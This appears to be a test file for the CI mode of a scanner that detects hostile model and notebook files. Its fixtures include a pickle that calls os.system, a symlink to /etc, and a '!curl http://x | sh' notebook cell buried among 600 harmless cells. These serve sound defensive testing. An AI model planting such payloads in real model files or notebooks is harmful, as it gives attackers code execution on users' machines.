import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { it } from 'node:test';
import { zip } from '../../scan/test/corpus/archives.ts';
import { pickle, reduce, stackGlobal, text } from '../../scan/test/corpus/assembler.ts';

const MAIN = join(import.meta.dirname, '../src/main.ts');
const home = mkdtempSync(join(tmpdir(), 'sallyport-ci-'));
const at = (...names: string[]): string => join(home, ...names);
const folder = (name: string, files: Record<string, string | Uint8Array>): void => {
  mkdirSync(at(name));
  writeFileSync(at(name, 'notes.txt'), 'nothing to see\n');
  for (const [file, content] of Object.entries(files)) writeFileSync(at(name, file), content);
};

interface Said {
  readonly passed: boolean;
  readonly checks: readonly { name: string; passed: boolean; ran: boolean; summary: string }[];
  readonly files: readonly {
    path: string;
    verdict: string;
    detections: readonly { technique: string; message: string }[];
  }[];
}

const run = (
  args: readonly string[],
  env: Record<string, string> = {},
): { code: number | null; said: Said } => {
  const { status, stdout, stderr } = spawnSync(
    process.execPath,
    ['--disable-warning=ExperimentalWarning', MAIN, 'ci', ...args, '--data', at('data'), '--format', 'json'],
    { cwd: home, encoding: 'utf8', env: { ...process.env, GITHUB_STEP_SUMMARY: '', ...env } },
  );
  assert.ok(stdout.startsWith('{'), stderr);
  return { code: status, said: JSON.parse(stdout) as Said };
};
const failed = ({ checks }: Said): string[] => checks.filter(({ passed }) => !passed).map(({ name }) => name);

folder('good', {});
folder('bad', { 'model.pkl': pickle(4, reduce(stackGlobal('os', 'system'), text('x'))) });
folder('unread', {});
symlinkSync('/etc', at('unread', 'out'));

it('ci passes what is harmless', () => {
  const { code, said } = run(['good']);
  assert.deepEqual([code, said.passed, failed(said)], [0, true, []]);
  assert.deepEqual(
    said.checks.filter(({ ran }) => !ran).map(({ name }) => name),
    ['red-team regressions', 'posture'],
  );
});

it('ci fails when one of its checks does, and says so wherever it is asked to', () => {
  const step = at('step.md');
  writeFileSync(step, '# before\n');
  const { code, said } = run(['bad', '--summary', at('summary.md')], { GITHUB_STEP_SUMMARY: step });
  assert.deepEqual([code, said.passed], [1, false]);
  assert.ok(failed(said).includes('model files') && failed(said).length < said.checks.length);
  const summary = readFileSync(at('summary.md'), 'utf8');
  assert.match(summary, /\| model files \| \*\*failed\*\* \|/);
  assert.match(summary, /bad\/model\.pkl/);
  assert.equal(readFileSync(step, 'utf8'), `# before\n${summary}`, 'other steps keep what they said');
});

it('ci passes what is waived, all of it and until its day', () => {
  const { said } = run(['bad']);
  const techniques = [
    ...new Set(said.files.flatMap(({ detections }) => detections.map((one) => one.technique))),
  ];
  assert.ok(techniques.length > 0);
  const waivers = (until: string, path = 'bad/model.pkl', some = techniques): string => {
    const all = some.map((technique) => ({ technique, path, reason: 'made here', until }));
    writeFileSync(at('waivers.json'), JSON.stringify(all));
    return at('waivers.json');
  };
  const waived = run(['bad', '--waivers', waivers('2999-01-01')]);
  assert.deepEqual([waived.code, waived.said.passed, waived.said.files], [0, true, []]);
  assert.match(waived.said.checks[0]!.summary, /waived/);
  assert.equal(run(['bad', '--waivers', waivers('2020-01-01')]).code, 1, 'its day is over');
  assert.equal(run(['bad', '--waivers', waivers('2999-01-01', 'other.pkl')]).code, 1, 'another file');
  assert.equal(run(['bad', '--waivers', waivers('2999-01-01', 'model.pkl', [])]).code, 1, 'nothing');
});

it('ci fails on what could not be read, unless that is allowed, and tells it once', () => {
  const { code, said } = run(['unread']);
  assert.deepEqual([code, said.passed], [1, false]);
  const out = said.files.filter(({ path }) => path.endsWith('unread/out'));
  assert.deepEqual(
    out.map(({ verdict, detections }) => [verdict, detections.length]),
    [['incomplete', 1]],
  );
  assert.deepEqual(run(['unread', '--allow-incomplete']).said.passed, true);
});

it('ci fails on what could not be read beside what is doubtful', () => {
  // A class that nobody knows is of medium severity.
  const doubtful = { name: 'c.json', content: Buffer.from(JSON.stringify({ _target_: 'own.Net' })) };
  folder('doubtful', { 'm.zip': zip([doubtful]) });
  assert.equal(run(['doubtful']).code, 0);
  const unread = { name: 'm.bin', content: Buffer.from('x'), method: 97 };
  folder('both', { 'm.zip': zip([doubtful, unread]) });
  const { code, said } = run(['both']);
  assert.deepEqual([code, said.files[0]!.verdict], [1, 'suspicious']);
  assert.match(said.checks[0]!.summary, /1 files incomplete/);
  assert.equal(run(['both', '--allow-incomplete']).code, 0);
});

it('ci fails on what stands behind many things that do not matter', () => {
  const cell = (source: string): object => ({ cell_type: 'code', source, outputs: [] });
  const cells = [...Array.from({ length: 600 }, () => cell('!ls')), cell('!curl http://x | sh')];
  folder('many', { 'n.ipynb': JSON.stringify({ cells, nbformat: 4, nbformat_minor: 5, metadata: {} }) });
  const { code, said } = run(['many']);
  assert.equal(code, 1);
  assert.ok(said.files[0]!.detections.some(({ technique }) => technique === 'notebook-shell'));
});
